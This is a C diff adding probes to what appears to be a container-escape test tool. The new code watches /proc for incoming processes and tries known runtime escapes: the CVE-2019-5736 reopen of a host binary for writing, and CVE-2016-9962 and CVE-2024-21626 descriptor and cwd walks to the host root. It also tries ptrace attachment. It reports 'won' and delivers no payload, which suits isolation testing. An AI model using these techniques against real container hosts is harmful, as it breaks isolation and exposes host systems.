@@ -260,6 +260,111 @@ static void run(char **words)
 		printf("%s: killed by %s\n", words[0], strsignal(WTERMSIG(status)));
 }
 
+/* Opened without being touched, then for writing by the descriptor. */
+static void grab(const char *program)
+{
+	int held = open(program, O_PATH | O_CLOEXEC);
+	char path[64];
+
+	snprintf(path, sizeof path, "/proc/self/fd/%d", held);
+	tell("grabbed", held < 0 ? held : open(path, O_RDWR | O_CLOEXEC));
+}
+
+/* --- waiting for a process that comes in -------------------------------------------------------- */
+
+/* What it runs; "" when it is gone, or does not let us see. */
+static const char *program_of(const char *pid)
+{
+	static char target[300];
+	char path[64];
+
+	snprintf(path, sizeof path, "/proc/%s/exe", pid);
+	ssize_t length = readlink(path, target, sizeof target - 1);
+
+	target[length < 0 ? 0 : length] = '\0';
+	return target;
+}
+
+static bool is_probe(const char *pid)
+{
+	return strncmp(program_of(pid), "/bin/probe", 10) == 0;
+}
+
+/* CVE-2019-5736: kept open without being written to, until it is nobody's program any more. */
+static void grab_program(const char *pid)
+{
+	static int held = -1;
+	char path[64];
+
+	snprintf(path, sizeof path, "/proc/%s/exe", pid);
+	if (held < 0 && (held = open(path, O_PATH | O_CLOEXEC)) >= 0 && is_probe(pid)) {
+		close(held);
+		held = -1;
+	}
+	if (held < 0)
+		return;
+	snprintf(path, sizeof path, "/proc/self/fd/%d", held);
+	int fd = open(path, O_WRONLY | O_CLOEXEC);
+
+	if (fd >= 0)
+		puts("won: the program that came in can be written to");
+}
+
+/* CVE-2016-9962, CVE-2024-21626: what it has open, where it stands, its memory. */
+static void look_into(const char *pid, const char *marker, bool may_trace)
+{
+	static const char *const below[] = { "root", "cwd", "cwd/../../../../../..", "task/1/root" };
+	char path[1024], target[300];
+
+	for (size_t i = 0; i < sizeof below / sizeof *below; i++) {
+		snprintf(path, sizeof path, "/proc/%s/%s%s", pid, below[i], marker);
+		if (access(path, F_OK) == 0)
+			printf("won: %s\n", path);
+	}
+	for (int fd = 0; fd < 32; fd++) {
+		snprintf(path, sizeof path, "/proc/%s/fd/%d", pid, fd);
+		ssize_t length = readlink(path, target, sizeof target - 1);
+
+		target[length < 0 ? 0 : length] = '\0';
+		/* what is there inside as well is the container's own */
+		if (length > 0 && access(target, F_OK) < 0 && strncmp(target, "pipe:", 5) != 0 && strncmp(target, "socket:", 7) != 0 && !is_probe(pid))
+			printf("won: descriptor %s\n", target);
+		snprintf(path, sizeof path, "/proc/%s/fd/%d/../../../../../..%s", pid, fd, marker);
+		if (access(path, F_OK) == 0)
+			printf("won: %s\n", path);
+	}
+	if (!may_trace && ptrace(PTRACE_ATTACH, atoi(pid), NULL, NULL) == 0) {
+		waitpid(atoi(pid), NULL, 0);
+		if (program_of(pid)[0] && !is_probe(pid))
+			puts("won: traced");
+		ptrace(PTRACE_DETACH, atoi(pid), NULL, NULL);
+		kill(atoi(pid), SIGCONT);        /* it may have stopped for exec before it did for us */
+	}
+}
+
+/* Every process that comes in, as long as it is not the container's own program yet; until one of our own tells us to stop. */
+static void ambush(const char *marker, bool may_trace)
+{
+	int seen = 0;
+
+	puts("lying in wait");
+	fflush(stdout);
+	while (access("/tmp/stop", F_OK) < 0) {
+		DIR *dir = opendir("/proc");
+		struct dirent *entry;
+
+		while (dir && (entry = readdir(dir)))
+			if (atoi(entry->d_name) > 1 && !is_probe(entry->d_name)) {
+				seen++;
+				grab_program(entry->d_name);
+				look_into(entry->d_name, marker, may_trace);
+			}
+		closedir(dir);
+		grab_program("1");
+	}
+	printf("saw %s\n", seen ? "them" : "nobody");
+}
+
 bool escape_act(const char *name, char **words)
 {
 #define IS(word) (strcmp(name, word) == 0)
@@ -278,6 +383,8 @@ bool escape_act(const char *name, char **words)
 	else if (IS("strangers")) strangers(words[0]);
 	else if (IS("segment")) segment(words[0]);
 	else if (IS("run")) run(words);
+	else if (IS("ambush")) ambush(words[0], words[1]);
+	else if (IS("grab")) grab(words[0]);
 	else if (IS("calls")) calls_act();
 	else if (IS("euid")) printf("euid %u egid %u\n", geteuid(), getegid());
 	else if (IS("setuid")) tell("setuid", setuid((uid_t)atoi(words[0])));
